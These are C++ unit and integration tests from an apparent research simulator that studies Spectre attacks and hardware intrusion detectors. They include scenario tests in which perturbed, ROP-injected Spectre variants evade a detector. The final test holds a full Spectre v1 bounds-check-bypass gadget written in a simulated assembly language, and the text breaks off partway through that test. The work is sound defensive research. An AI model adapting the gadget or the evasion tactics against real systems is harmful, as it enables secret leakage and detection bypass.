  EXPECT_DOUBLE_EQ(median(xs), 3.0);
  EXPECT_DOUBLE_EQ(percentile(xs, 0), 1.0);
  EXPECT_DOUBLE_EQ(percentile(xs, 100), 5.0);
  EXPECT_DOUBLE_EQ(percentile(xs, 50), 3.0);
}

TEST(Stats, PercentileInterpolates) {
  std::vector<double> xs{0.0, 10.0};
  EXPECT_DOUBLE_EQ(percentile(xs, 25), 2.5);
}

TEST(Stats, EmptyPercentileThrows) {
  EXPECT_THROW(percentile({}, 50), Error);
}

TEST(Strings, SplitKeepsEmptyFields) {
  const auto parts = split("a,,b", ',');
  ASSERT_EQ(parts.size(), 3u);
  EXPECT_EQ(parts[1], "");
}

TEST(Strings, SplitWsDropsBlanks) {
  const auto parts = split_ws("  foo \t bar\nbaz  ");
  ASSERT_EQ(parts.size(), 3u);
  EXPECT_EQ(parts[0], "foo");
  EXPECT_EQ(parts[2], "baz");
}

TEST(Strings, TrimBothEnds) { EXPECT_EQ(trim("  x \t"), "x"); }

TEST(Strings, ParseIntDecimalHexNegative) {
  std::int64_t v = 0;
  EXPECT_TRUE(parse_int("123", v));
  EXPECT_EQ(v, 123);
  EXPECT_TRUE(parse_int("0x1f", v));
  EXPECT_EQ(v, 31);
  EXPECT_TRUE(parse_int("-42", v));
  EXPECT_EQ(v, -42);
  EXPECT_FALSE(parse_int("12x", v));
  EXPECT_FALSE(parse_int("", v));
  EXPECT_FALSE(parse_int("-", v));
}

TEST(Strings, HexAndFixedFormatting) {
  EXPECT_EQ(hex(255), "0xff");
  EXPECT_EQ(fixed(3.14159, 2), "3.14");
}

TEST(Strings, Padding) {
  EXPECT_EQ(pad_left("x", 3), "  x");
  EXPECT_EQ(pad_right("x", 3), "x  ");
}

TEST(Table, RendersAlignedColumns) {
  Table t({"name", "value"});
  t.add_row({"a", "1"});
  t.add_row({"longer", "22"});
  const std::string out = t.render();
  EXPECT_NE(out.find("name   | value"), std::string::npos);
  EXPECT_NE(out.find("longer | 22"), std::string::npos);
  EXPECT_EQ(t.row_count(), 2u);
}

TEST(Table, MissingCellsRenderEmpty) {
  Table t({"a", "b"});
  t.add_row({"only"});
  EXPECT_NO_THROW(t.render());
}

// Builds a FlagCursor over a fake argv ("test" + the given arguments).
// The vector must outlive the cursor; keeping both in one fixture struct
// makes that automatic.
struct Argv {
  explicit Argv(std::vector<std::string> args) : storage(std::move(args)) {
    ptrs.push_back(const_cast<char*>("test"));
    for (auto& a : storage) ptrs.push_back(a.data());
  }
  FlagCursor cursor() {
    return FlagCursor(static_cast<int>(ptrs.size()), ptrs.data());
  }
  std::vector<std::string> storage;
  std::vector<char*> ptrs;
};

TEST(FlagCursor, TakeValueSpacedAndInline) {
  Argv a({"--seed", "7", "--out=path.csv", "--empty="});
  auto args = a.cursor();
  std::string v;
  EXPECT_TRUE(args.take_value("--seed", v));
  EXPECT_EQ(v, "7");
  EXPECT_TRUE(args.take_value("--out", v));
  EXPECT_EQ(v, "path.csv");
  v = "sentinel";
  EXPECT_TRUE(args.take_value("--empty", v));
  EXPECT_EQ(v, "");  // `--flag=` is provided-but-empty, not missing
  EXPECT_FALSE(args.more());
}

TEST(FlagCursor, MissingValueThrowsNamedError) {
  Argv a({"--seed"});
  auto args = a.cursor();
  std::string v;
  try {
    args.take_value("--seed", v);
    FAIL() << "should have thrown";
  } catch (const Error& e) {
    EXPECT_STREQ(e.what(), "--seed needs a value");
  }
}

TEST(FlagCursor, BadU64Throws) {
  Argv a({"--seed", "12x"});
  auto args = a.cursor();
  std::uint64_t v = 0;
  try {
    args.take_u64("--seed", v);
    FAIL() << "should have thrown";
  } catch (const Error& e) {
    EXPECT_NE(std::string(e.what()).find("unsigned integer"),
              std::string::npos);
    EXPECT_NE(std::string(e.what()).find("12x"), std::string::npos);
  }
}

TEST(FlagCursor, U64ParsesHexAndDecimal) {
  Argv a({"--a", "0x10", "--b=42"});
  auto args = a.cursor();
  std::uint64_t v = 0;
  EXPECT_TRUE(args.take_u64("--a", v));
  EXPECT_EQ(v, 16u);
  EXPECT_TRUE(args.take_u64("--b", v));
  EXPECT_EQ(v, 42u);
}

TEST(FlagCursor, BadIntThrows) {
  Argv a({"--attempts", "many"});
  auto args = a.cursor();
  int v = 0;
  try {
    args.take_int("--attempts", v);
    FAIL() << "should have thrown";
  } catch (const Error& e) {
    EXPECT_NE(std::string(e.what()).find("integer"), std::string::npos);
  }
  // Empty inline value is also a parse error, not a silent zero.
  Argv b({"--attempts="});
  auto bargs = b.cursor();
  EXPECT_THROW(bargs.take_int("--attempts", v), Error);
}

TEST(FlagCursor, IntParsesNegative) {
  Argv a({"--delta", "-3"});
  auto args = a.cursor();
  int v = 0;
  EXPECT_TRUE(args.take_int("--delta", v));
  EXPECT_EQ(v, -3);
}

TEST(FlagCursor, DuplicateFlagLastWins) {
  // The standard tool loop consumes each occurrence in order, so a
  // duplicated flag resolves to its final value rather than erroring.
  Argv a({"--seed", "1", "--seed", "9"});
  auto args = a.cursor();
  std::uint64_t seed = 0;
  while (args.more()) {
    if (args.take_u64("--seed", seed)) continue;
    args.unknown();
  }
  EXPECT_EQ(seed, 9u);
}

TEST(FlagCursor, UnknownFlagThrows) {
  Argv a({"--nope"});
  auto args = a.cursor();
  try {
    args.unknown();
    FAIL() << "should have thrown";
  } catch (const Error& e) {
    EXPECT_STREQ(e.what(), "unknown flag '--nope'");
  }
}

TEST(FlagCursor, MoreFlagsStopsAtPositional) {
  Argv a({"--quick", "prog.s", "--after"});
  auto args = a.cursor();
  EXPECT_TRUE(args.take("--quick"));
  EXPECT_FALSE(args.more_flags());  // "prog.s" is positional
  EXPECT_EQ(args.take_positional(), "prog.s");
  EXPECT_TRUE(args.more_flags());
}

TEST(FlagCursor, PrefixDoesNotMatchValueFlag) {
  // "--seedling" must not be consumed by take_value("--seed", ...).
  Argv a({"--seedling", "x"});
  auto args = a.cursor();
  std::string v;
  EXPECT_FALSE(args.take_value("--seed", v));
  EXPECT_EQ(args.current(), "--seedling");
}

TEST(ParseOnOff, AcceptsCanonicalSpellingsRejectsRest) {
  EXPECT_TRUE(parse_on_off("--snapshot", "on"));
  EXPECT_TRUE(parse_on_off("--snapshot", "1"));
  EXPECT_FALSE(parse_on_off("--snapshot", "off"));
  EXPECT_FALSE(parse_on_off("--snapshot", "0"));
  try {
    parse_on_off("--snapshot", "yes");
    FAIL() << "should have thrown";
  } catch (const Error& e) {
    EXPECT_NE(std::string(e.what()).find("--snapshot"), std::string::npos);
  }
}

TEST(Error, EnsureThrowsWithContext) {
  try {
    CRS_ENSURE(false, "the message");
    FAIL() << "should have thrown";
  } catch (const Error& e) {
    EXPECT_NE(std::string(e.what()).find("the message"), std::string::npos);
  }
}

}  // namespace
}  // namespace crs
