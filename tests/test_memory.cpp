#include <gtest/gtest.h>

#include "sim/memory.hpp"
#include "support/error.hpp"

namespace crs::sim {
namespace {

TEST(Memory, SizeRoundsUpToPages) {
  Memory m(5000);
  EXPECT_EQ(m.size(), 2 * Memory::kPageSize);
  EXPECT_EQ(m.page_count(), 2u);
}

TEST(Memory, ReadWriteRoundTrip) {
  Memory m(8192);
  m.write_u64(16, 0x1122334455667788ull);
  EXPECT_EQ(m.read_u64(16), 0x1122334455667788ull);
  EXPECT_EQ(m.read_u8(16), 0x88);  // little endian
  EXPECT_EQ(m.read_u8(23), 0x11);
}

TEST(Memory, BytesRoundTrip) {
  Memory m(8192);
  const std::vector<std::uint8_t> data{1, 2, 3, 4, 5};
  m.write_bytes(100, data);
  EXPECT_EQ(m.read_bytes(100, 5), data);
}

TEST(Memory, OutOfRangeAccessesThrow) {
  Memory m(4096);
  EXPECT_THROW(m.read_u8(4096), Error);
  EXPECT_THROW(m.read_u64(4090), Error);
  EXPECT_THROW(m.write_u64(4095, 1), Error);
}

TEST(Memory, PermissionsDefaultToNone) {
  Memory m(8192);
  EXPECT_FALSE(m.check(0, 1, AccessKind::kRead));
  EXPECT_FALSE(m.check(0, 1, AccessKind::kWrite));
  EXPECT_FALSE(m.check(0, 1, AccessKind::kExecute));
}

TEST(Memory, PermissionsArePerPage) {
  Memory m(4 * Memory::kPageSize);
  m.set_permissions(0, Memory::kPageSize, kPermRX);
  m.set_permissions(Memory::kPageSize, Memory::kPageSize, kPermRW);
  EXPECT_TRUE(m.check(0, 8, AccessKind::kExecute));
  EXPECT_FALSE(m.check(0, 8, AccessKind::kWrite));
  EXPECT_TRUE(m.check(Memory::kPageSize, 8, AccessKind::kWrite));
  EXPECT_FALSE(m.check(Memory::kPageSize, 8, AccessKind::kExecute));
}

TEST(Memory, CheckSpanningPagesRequiresBoth) {
  Memory m(4 * Memory::kPageSize);
  m.set_permissions(0, Memory::kPageSize, kPermRead);
  // Crossing into an unmapped page fails.
  EXPECT_FALSE(m.check(Memory::kPageSize - 4, 8, AccessKind::kRead));
  m.set_permissions(Memory::kPageSize, Memory::kPageSize, kPermRead);
  EXPECT_TRUE(m.check(Memory::kPageSize - 4, 8, AccessKind::kRead));
}

TEST(Memory, CheckRejectsOverflowAndZeroLength) {
  Memory m(4096);
  m.set_permissions(0, 4096, kPermRead);
  EXPECT_FALSE(m.check(0, 0, AccessKind::kRead));
  EXPECT_FALSE(m.check(4090, 100, AccessKind::kRead));
  EXPECT_FALSE(m.check(~0ull, 8, AccessKind::kRead));
}

// --- zero-length guards -------------------------------------------------
// bump_versions(addr, 0) used to compute (addr + len - 1), which underflows
// at addr == 0; set_permissions used to hard-fail on an empty span. Empty
// spans are no-ops everywhere now (the loader maps zero-byte segments).

TEST(Memory, EmptyWriteBytesIsANoOp) {
  Memory m(8192);
  const std::uint32_t v0 = m.page_version(0);
  m.write_bytes(0, std::span<const std::uint8_t>{});
  m.write_bytes(8192, std::span<const std::uint8_t>{});  // at the very end
  EXPECT_EQ(m.page_version(0), v0);
  EXPECT_EQ(m.read_u8(0), 0);
}

TEST(Memory, EmptyReadBytesIsEmpty) {
  Memory m(8192);
  EXPECT_TRUE(m.read_bytes(0, 0).empty());
  EXPECT_TRUE(m.read_bytes(8192, 0).empty());
  EXPECT_TRUE(m.read_span(0, 0).empty());
}

TEST(Memory, EmptySetPermissionsIsANoOp) {
  Memory m(8192);
  const std::uint32_t v0 = m.page_version(0);
  m.set_permissions(0, 0, kPermRW);  // no page overlaps an empty span
  EXPECT_EQ(m.permissions_at(0), kPermNone);
  EXPECT_EQ(m.page_version(0), v0);
  EXPECT_THROW(m.set_permissions(8193, 0x10000, kPermRW), Error);
}

// --- copy-on-write forking ----------------------------------------------

TEST(MemoryCow, FreshImageIsSparse) {
  Memory m(16 * 1024 * 1024);
  const auto img = m.freeze();
  EXPECT_EQ(img->page_count(), m.page_count());
  EXPECT_EQ(img->stored_page_count(), 0u);  // all pristine → all zero-page
}

TEST(MemoryCow, ForkMatchesSourceBitForBit) {
  Memory m(4 * Memory::kPageSize);
  m.set_permissions(0, Memory::kPageSize, kPermRX);
  m.write_u64(64, 0xABCDEF);
  m.write_u8(Memory::kPageSize + 5, 0x77);
  const auto img = m.freeze();
  EXPECT_EQ(img->stored_page_count(), 2u);  // only the touched pages

  Memory fork(img);
  EXPECT_EQ(fork.size(), m.size());
  EXPECT_TRUE(fork.is_cow());
  EXPECT_EQ(fork.read_u64(64), 0xABCDEFull);
  EXPECT_EQ(fork.read_u8(Memory::kPageSize + 5), 0x77);
  EXPECT_EQ(fork.permissions_at(0), kPermRX);
  for (std::uint64_t p = 0; p < m.page_count(); ++p) {
    EXPECT_EQ(fork.page_version(p), m.page_version(p));
  }
  EXPECT_EQ(fork.promoted_pages(), 0u);  // reads never promote
}

TEST(MemoryCow, WritePromotesAndBumpsVersion) {
  Memory m(4 * Memory::kPageSize);
  m.write_u64(100, 0x1111);
  const auto img = m.freeze();

  Memory fork(img);
  const std::uint32_t v = fork.page_version(0);
  fork.write_u8(101, 0x22);
  EXPECT_EQ(fork.promoted_pages(), 1u);
  EXPECT_GT(fork.page_version(0), v);
  // The promotion copied the baseline bytes before the write landed.
  EXPECT_EQ(fork.read_u64(100), (0x1111ull & ~0xFF00ull) | 0x2200ull);
  // Repeated writes to a promoted page allocate nothing further.
  fork.write_u64(200, 0x3333);
  EXPECT_EQ(fork.promoted_pages(), 1u);
}

TEST(MemoryCow, ForksAreIsolatedFromEachOtherAndTheImage) {
  Memory m(2 * Memory::kPageSize);
  m.write_u8(10, 0xAA);
  const auto img = m.freeze();

  Memory a(img);
  Memory b(img);
  a.write_u8(10, 0xBB);
  EXPECT_EQ(a.read_u8(10), 0xBB);
  EXPECT_EQ(b.read_u8(10), 0xAA);  // sibling untouched
  Memory c(img);
  EXPECT_EQ(c.read_u8(10), 0xAA);  // image untouched
}

TEST(MemoryCow, PermissionChangesNeedNoPromotion) {
  Memory m(2 * Memory::kPageSize);
  const auto img = m.freeze();
  Memory fork(img);
  const std::uint32_t v = fork.page_version(0);
  fork.set_permissions(0, Memory::kPageSize, kPermRW);
  EXPECT_EQ(fork.promoted_pages(), 0u);  // perms live in fork metadata
  EXPECT_GT(fork.page_version(0), v);    // but derived state still misses
  EXPECT_EQ(fork.permissions_at(0), kPermRW);
  Memory sibling(img);
  EXPECT_EQ(sibling.permissions_at(0), kPermNone);
}

TEST(MemoryCow, ReadSpanAcrossNonAdjacentFramesCopies) {
  Memory m(4 * Memory::kPageSize);
  m.write_u8(Memory::kPageSize - 1, 0x11);  // page 0 stored in the image
  const auto img = m.freeze();

  Memory fork(img);
  // Page 1 stays a shared zero page while page 0 is image storage: the two
  // frames are not adjacent, so a straddling span must be assembled.
  const auto span = fork.read_span(Memory::kPageSize - 4, 8);
  ASSERT_EQ(span.size(), 8u);
  EXPECT_EQ(span[3], 0x11);
  EXPECT_EQ(span[4], 0x00);
  // Same straddle after promoting page 1: frames still non-adjacent.
  fork.write_u8(Memory::kPageSize + 2, 0x55);
  const auto span2 = fork.read_span(Memory::kPageSize - 4, 8);
  EXPECT_EQ(span2[3], 0x11);
  EXPECT_EQ(span2[6], 0x55);
}

TEST(MemoryCow, CrossPageWordAccessesWork) {
  Memory m(2 * Memory::kPageSize);
  const auto img = m.freeze();
  Memory fork(img);
  const std::uint64_t addr = Memory::kPageSize - 3;  // straddles the seam
  fork.write_u64(addr, 0x1122334455667788ull);
  EXPECT_EQ(fork.read_u64(addr), 0x1122334455667788ull);
  EXPECT_EQ(fork.promoted_pages(), 2u);  // both pages dirtied
  EXPECT_GT(fork.page_version(0), 1u);
  EXPECT_GT(fork.page_version(1), 1u);
}

TEST(MemoryCow, ResidentBytesTracksPromotionsOnly) {
  Memory priv(16 * Memory::kPageSize);
  EXPECT_EQ(priv.resident_bytes(), 16 * Memory::kPageSize);

  const auto img = priv.freeze();
  Memory fork(img);
  EXPECT_EQ(fork.resident_bytes(), 0u);
  fork.write_u8(0, 1);
  fork.write_u8(5 * Memory::kPageSize, 1);
  EXPECT_EQ(fork.resident_bytes(), 2 * Memory::kPageSize);
}

TEST(Memory, DepIsExpressible) {
  // Write+execute never co-exist in the loader's use of this API; verify
  // the primitive supports the W^X split it relies on.
  Memory m(2 * Memory::kPageSize);
  m.set_permissions(0, Memory::kPageSize, kPermRX);  // code
  m.set_permissions(Memory::kPageSize, Memory::kPageSize, kPermRW);  // stack
  EXPECT_FALSE(m.check(Memory::kPageSize, 8, AccessKind::kExecute));
  EXPECT_FALSE(m.check(0, 8, AccessKind::kWrite));
}

}  // namespace
}  // namespace crs::sim
