#include <gtest/gtest.h>

#include "sim/memory.hpp"
#include "support/error.hpp"

namespace crs::sim {
namespace {

TEST(Memory, SizeRoundsUpToPages) {
  Memory m(5000);
  EXPECT_EQ(m.size(), 2 * Memory::kPageSize);
  EXPECT_EQ(m.page_count(), 2u);
}

TEST(Memory, ReadWriteRoundTrip) {
  Memory m(8192);
  m.write_u64(16, 0x1122334455667788ull);
  EXPECT_EQ(m.read_u64(16), 0x1122334455667788ull);
  EXPECT_EQ(m.read_u8(16), 0x88);  // little endian
  EXPECT_EQ(m.read_u8(23), 0x11);
}

TEST(Memory, BytesRoundTrip) {
  Memory m(8192);
  const std::vector<std::uint8_t> data{1, 2, 3, 4, 5};
  m.write_bytes(100, data);
  EXPECT_EQ(m.read_bytes(100, 5), data);
}

TEST(Memory, OutOfRangeAccessesThrow) {
  Memory m(4096);
  EXPECT_THROW(m.read_u8(4096), Error);
  EXPECT_THROW(m.read_u64(4090), Error);
  EXPECT_THROW(m.write_u64(4095, 1), Error);
}

TEST(Memory, PermissionsDefaultToNone) {
  Memory m(8192);
  EXPECT_FALSE(m.check(0, 1, AccessKind::kRead));
  EXPECT_FALSE(m.check(0, 1, AccessKind::kWrite));
  EXPECT_FALSE(m.check(0, 1, AccessKind::kExecute));
}

TEST(Memory, PermissionsArePerPage) {
  Memory m(4 * Memory::kPageSize);
  m.set_permissions(0, Memory::kPageSize, kPermRX);
  m.set_permissions(Memory::kPageSize, Memory::kPageSize, kPermRW);
  EXPECT_TRUE(m.check(0, 8, AccessKind::kExecute));
  EXPECT_FALSE(m.check(0, 8, AccessKind::kWrite));
  EXPECT_TRUE(m.check(Memory::kPageSize, 8, AccessKind::kWrite));
  EXPECT_FALSE(m.check(Memory::kPageSize, 8, AccessKind::kExecute));
}

TEST(Memory, CheckSpanningPagesRequiresBoth) {
  Memory m(4 * Memory::kPageSize);
  m.set_permissions(0, Memory::kPageSize, kPermRead);
  // Crossing into an unmapped page fails.
  EXPECT_FALSE(m.check(Memory::kPageSize - 4, 8, AccessKind::kRead));
  m.set_permissions(Memory::kPageSize, Memory::kPageSize, kPermRead);
  EXPECT_TRUE(m.check(Memory::kPageSize - 4, 8, AccessKind::kRead));
}

TEST(Memory, CheckRejectsOverflowAndZeroLength) {
  Memory m(4096);
  m.set_permissions(0, 4096, kPermRead);
  EXPECT_FALSE(m.check(0, 0, AccessKind::kRead));
  EXPECT_FALSE(m.check(4090, 100, AccessKind::kRead));
  EXPECT_FALSE(m.check(~0ull, 8, AccessKind::kRead));
}

TEST(Memory, DepIsExpressible) {
  // Write+execute never co-exist in the loader's use of this API; verify
  // the primitive supports the W^X split it relies on.
  Memory m(2 * Memory::kPageSize);
  m.set_permissions(0, Memory::kPageSize, kPermRX);  // code
  m.set_permissions(Memory::kPageSize, Memory::kPageSize, kPermRW);  // stack
  EXPECT_FALSE(m.check(Memory::kPageSize, 8, AccessKind::kExecute));
  EXPECT_FALSE(m.check(0, 8, AccessKind::kWrite));
}

}  // namespace
}  // namespace crs::sim
