// Integration tests of the experiment layer: scenarios, corpora, campaigns
// and the overhead measurement — scaled down so the suite stays fast, but
// exercising every code path the benches rely on.
#include <gtest/gtest.h>

#include "core/campaign.hpp"
#include "core/corpus.hpp"
#include "core/overhead.hpp"
#include "core/scenario.hpp"
#include "hid/features.hpp"
#include "support/error.hpp"

namespace crs::core {
namespace {

CorpusConfig small_corpus() {
  CorpusConfig cc;
  cc.windows_per_class = 250;
  cc.host_scale = 400;
  return cc;
}

const ml::Dataset& benign_corpus() {
  static const ml::Dataset d = build_benign_corpus(small_corpus());
  return d;
}

const ml::Dataset& attack_corpus() {
  static const ml::Dataset d = build_attack_corpus(small_corpus());
  return d;
}

TEST(Scenario, StandaloneSpectreRecoversSecret) {
  ScenarioConfig sc;
  sc.rop_injected = false;
  sc.seed = 3;
  const auto run = run_scenario(sc);
  EXPECT_TRUE(run.attack_launched);
  EXPECT_TRUE(run.secret_recovered);
  EXPECT_EQ(run.recovered, sc.secret);
  EXPECT_EQ(run.host_windows.size(), 0u);
  EXPECT_GT(run.attack_windows.size(), 10u);
}

TEST(Scenario, InjectedCrSpectreRecoversSecretAndHostFinishes) {
  ScenarioConfig sc;
  sc.rop_injected = true;
  sc.host_scale = 4000;
  sc.seed = 4;
  const auto run = run_scenario(sc);
  EXPECT_TRUE(run.attack_launched);
  EXPECT_TRUE(run.secret_recovered);
  EXPECT_GT(run.attack_windows.size(), 5u);
  EXPECT_GT(run.host_windows.size(), 5u);
  EXPECT_GT(run.host_ipc, 0.1);
  EXPECT_LT(run.host_ipc, 1.0);
}

TEST(Scenario, VariantsAllWorkInjected) {
  for (const auto v : attack::all_variants()) {
    ScenarioConfig sc;
    sc.variant = v;
    sc.host_scale = 2000;
    sc.seed = 5;
    const auto run = run_scenario(sc);
    EXPECT_TRUE(run.secret_recovered) << attack::variant_name(v);
  }
}

TEST(Scenario, PerturbedAttackStillWorks) {
  ScenarioConfig sc;
  sc.perturb = true;
  sc.perturb_params.delay = 500;
  sc.host_scale = 2000;
  sc.seed = 6;
  const auto run = run_scenario(sc);
  EXPECT_TRUE(run.secret_recovered);
}

TEST(Scenario, CanaryStopsInjection) {
  ScenarioConfig sc;
  sc.canary = true;
  sc.host_scale = 2000;
  sc.seed = 7;
  const auto run = run_scenario(sc);
  EXPECT_FALSE(run.attack_launched);
  EXPECT_FALSE(run.secret_recovered);
}

TEST(Scenario, AslrStopsInjection) {
  ScenarioConfig sc;
  sc.aslr = true;
  sc.host_scale = 2000;
  sc.seed = 8;
  const auto run = run_scenario(sc);
  EXPECT_FALSE(run.attack_launched);
  EXPECT_FALSE(run.secret_recovered);
}

TEST(Scenario, SeedsJitterTheTraces) {
  ScenarioConfig a;
  a.host_scale = 2000;
  a.seed = 100;
  ScenarioConfig b = a;
  b.seed = 101;
  const auto ra = run_scenario(a);
  const auto rb = run_scenario(b);
  EXPECT_NE(ra.profile.windows.size(), rb.profile.windows.size());
}

TEST(Corpus, BenignCorpusHasRequestedShape) {
  const auto& d = benign_corpus();
  EXPECT_EQ(d.size(), 250u);
  EXPECT_EQ(d.x.cols(), hid::feature_universe_size());
  for (const int y : d.y) EXPECT_EQ(y, 0);
}

TEST(Corpus, AttackCorpusHasRequestedShape) {
  const auto& d = attack_corpus();
  EXPECT_EQ(d.size(), 250u);
  for (const int y : d.y) EXPECT_EQ(y, 1);
}

TEST(Corpus, ClassesAreLearnable) {
  ml::Dataset all = benign_corpus();
  all.append_all(attack_corpus());
  hid::DetectorConfig dc;
  dc.classifier = "LR";
  dc.features = hid::paper_feature_indices();
  hid::HidDetector det(dc);
  det.fit(all);
  const auto cm = det.evaluate(all);
  EXPECT_GT(cm.balanced_accuracy(), 0.9)
      << "benign and clean-Spectre corpora must be separable";
}

TEST(Campaign, OfflineHidDetectsStandaloneSpectre) {
  CampaignConfig cfg;
  cfg.scenario.rop_injected = false;
  cfg.detector.features = hid::paper_feature_indices();
  cfg.attempts = 2;
  const auto r = run_campaign(cfg, benign_corpus(), attack_corpus());
  ASSERT_EQ(r.attempts.size(), 2u);
  for (const auto& a : r.attempts) {
    EXPECT_GT(a.detection_rate, 0.8) << "attempt " << a.attempt;
    EXPECT_TRUE(a.secret_recovered);
    EXPECT_FALSE(a.evaded);
  }
  EXPECT_GT(r.mean_detection(), 0.8);
}

TEST(Campaign, OfflineHidIsEvadedByPerturbedCrSpectre) {
  CampaignConfig cfg;
  cfg.scenario.rop_injected = true;
  cfg.scenario.host_scale = 4000;
  cfg.scenario.perturb = true;
  cfg.scenario.perturb_params.delay = 1000;
  cfg.detector.features = hid::paper_feature_indices();
  cfg.attempts = 2;
  const auto r = run_campaign(cfg, benign_corpus(), attack_corpus());
  for (const auto& a : r.attempts) {
    EXPECT_LT(a.detection_rate, 0.55) << "attempt " << a.attempt;
    EXPECT_TRUE(a.evaded);
    EXPECT_TRUE(a.secret_recovered);
  }
}

TEST(Campaign, OnlineHidRecoversAndAttackerMutates) {
  CampaignConfig cfg;
  cfg.scenario.rop_injected = true;
  cfg.scenario.host_scale = 4000;
  cfg.scenario.perturb = true;
  cfg.scenario.perturb_params.delay = 2000;
  cfg.detector.features = hid::paper_feature_indices();
  cfg.online_hid = true;
  cfg.dynamic_perturbation = true;
  cfg.attempts = 4;
  const auto r = run_campaign(cfg, benign_corpus(), attack_corpus());
  // Attempt 1 evades; the retrained HID then detects the unchanged variant,
  // which triggers a mutation.
  EXPECT_TRUE(r.attempts[0].evaded);
  bool any_detected = false, any_mutation = false;
  for (const auto& a : r.attempts) {
    any_detected |= a.detected;
    any_mutation |= a.mutated_after;
  }
  EXPECT_TRUE(any_detected);
  EXPECT_TRUE(any_mutation);
  EXPECT_LT(r.min_detection(), 0.3);
  EXPECT_GT(r.max_detection(), 0.8);
}

TEST(Campaign, RecordsCarryVariantParameters) {
  CampaignConfig cfg;
  cfg.scenario.rop_injected = false;
  cfg.detector.features = hid::paper_feature_indices();
  cfg.attempts = 1;
  const auto r = run_campaign(cfg, benign_corpus(), attack_corpus());
  EXPECT_EQ(r.attempts[0].attempt, 1);
  EXPECT_FALSE(r.attempts[0].params.describe().empty());
}

TEST(Overhead, InjectionCostIsSmall) {
  OverheadConfig cfg;
  cfg.repeats = 2;
  // Whole-process IPC semantics: the host must dwarf the attack (the
  // paper's regime) for the ~1% overhead numbers to be meaningful.
  const auto row = measure_overhead("Math", "basicmath", 60000, cfg);
  EXPECT_GT(row.original_ipc, 0.1);
  EXPECT_GT(row.offline_ipc, 0.1);
  EXPECT_GT(row.online_ipc, 0.1);
  // The paper's claim: negligible overhead (~1%). Allow a loose band.
  EXPECT_LT(std::abs(row.offline_overhead_pct), 8.0);
  EXPECT_LT(std::abs(row.online_overhead_pct), 8.0);
}

TEST(Overhead, RowValidation) {
  OverheadConfig cfg;
  cfg.repeats = 0;
  EXPECT_THROW(measure_overhead("x", "basicmath", 100, cfg), Error);
}

}  // namespace
}  // namespace crs::core
