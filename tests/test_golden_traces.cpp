// Golden-trace tier: re-run the canonical small-scale scenarios and demand
// byte-identical CSV traces against the references in tests/golden. A
// mismatch prints a row-level diff; intentional changes are blessed with
// `crs_fuzz --update-golden`.
#include <gtest/gtest.h>

#include <string>

#include "fuzz/golden.hpp"
#include "support/error.hpp"

#ifndef CRS_GOLDEN_DIR
#define CRS_GOLDEN_DIR "tests/golden"
#endif

namespace {

using namespace crs;

class GoldenTrace : public ::testing::TestWithParam<std::string> {};

TEST_P(GoldenTrace, MatchesCheckedInReference) {
  const auto& name = GetParam();
  const auto path = std::string(CRS_GOLDEN_DIR) + "/" + name + ".csv";
  std::string golden;
  ASSERT_NO_THROW(golden = fuzz::read_text_file(path))
      << "missing reference — run `crs_fuzz --update-golden`";
  const auto live = fuzz::golden_csv(name);
  const auto diff = fuzz::diff_csv(name, golden, live);
  EXPECT_TRUE(diff.empty()) << diff;
}

INSTANTIATE_TEST_SUITE_P(Scenarios, GoldenTrace,
                         ::testing::Values("benign", "spectre", "crspectre"),
                         [](const auto& info) { return info.param; });

TEST(GoldenCsv, DeterministicAcrossRuns) {
  EXPECT_EQ(fuzz::golden_csv("benign"), fuzz::golden_csv("benign"));
}

TEST(GoldenCsv, UnknownScenarioThrows) {
  EXPECT_THROW(fuzz::golden_csv("nope"), Error);
}

TEST(GoldenDiff, ReportsRowAndColumnOfChange) {
  const std::string golden = "a,b,c\n1.0,2.0,3.0\n4.0,5.0,6.0\n";
  const std::string live = "a,b,c\n1.0,2.0,3.0\n4.0,9.9,6.0\n";
  const auto diff = fuzz::diff_csv("demo", golden, live);
  ASSERT_FALSE(diff.empty());
  EXPECT_NE(diff.find("row 2"), std::string::npos) << diff;
  EXPECT_NE(diff.find("[b]"), std::string::npos) << diff;
  EXPECT_NE(diff.find("golden=5.0"), std::string::npos) << diff;
  EXPECT_NE(diff.find("live=9.9"), std::string::npos) << diff;
  EXPECT_NE(diff.find("--update-golden"), std::string::npos) << diff;
}

TEST(GoldenDiff, ReportsHeaderAndRowCountChanges) {
  EXPECT_NE(fuzz::diff_csv("demo", "a,b\n1,2\n", "a,z\n1,2\n").find("header"),
            std::string::npos);
  EXPECT_NE(
      fuzz::diff_csv("demo", "a,b\n1,2\n", "a,b\n1,2\n3,4\n").find("row count"),
      std::string::npos);
  EXPECT_TRUE(fuzz::diff_csv("demo", "a,b\n1,2\n", "a,b\n1,2\n").empty());
}

}  // namespace
