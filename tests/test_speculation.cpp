// Tests for the transient-execution semantics the Spectre attack depends
// on: bounded wrong-path execution, rollback of architectural state,
// persistence of cache fills, and RSB-driven transient execution at a
// stale return site.
#include <gtest/gtest.h>

#include "harness.hpp"

namespace crs {
namespace {

using sim::Event;
using sim::StopReason;
using test::SimHarness;

// A Spectre-PHT (v1) victim plus a driver that mistrains the bounds check,
// flushes the bound, and calls with an out-of-bounds index reaching
// `secret`. The probe line for the secret byte must become cache-resident
// even though the access never happens architecturally.
constexpr const char* kSpectreV1 = R"(
_start:
    ; --- train: 8 in-bounds calls ---
    movi r10, 8
train:
    movi r1, 1
    call victim
    addi r10, r10, -1
    bnez r10, train

    ; --- flush the bound and the probe array ---
    movi r4, array1_size
    clflush [r4]
    movi r11, probe
    movi r12, 256
flush_probe:
    clflush [r11]
    addi r11, r11, 64
    addi r12, r12, -1
    bnez r12, flush_probe
    mfence

    ; --- the out-of-bounds call: x = secret - array1 ---
    movi r1, secret
    movi r2, array1
    sub r1, r1, r2
    call victim
    movi r1, 0
    call exit_

; victim(r1 = x): if (x < array1_size) leak probe[array1[x] * 64]
victim:
    movi r4, array1_size
    load r4, [r4]
    cmpltu r5, r1, r4
    beqz r5, victim_done       ; taken = out of bounds (skip)
    movi r6, array1
    add r6, r6, r1
    loadb r7, [r6]
    shli r7, r7, 6
    movi r8, probe
    add r8, r8, r7
    loadb r9, [r8]
victim_done:
    ret

.data
array1_size:
    .word 8
array1:
    .byte 1, 2, 3, 4, 5, 6, 7, 8
.align 64
secret:
    .byte 83            ; 'S'
.align 64
probe:
    .space 16384        ; 256 lines x 64 bytes
)";

TEST(Speculation, SpectreV1LeaksSecretIntoCache) {
  SimHarness h;
  const auto& prog = h.add_program(kSpectreV1, "/bin/spectre");
  ASSERT_EQ(h.run_program("/bin/spectre"), StopReason::kHalted);

  const std::uint64_t probe = prog.symbol("probe");
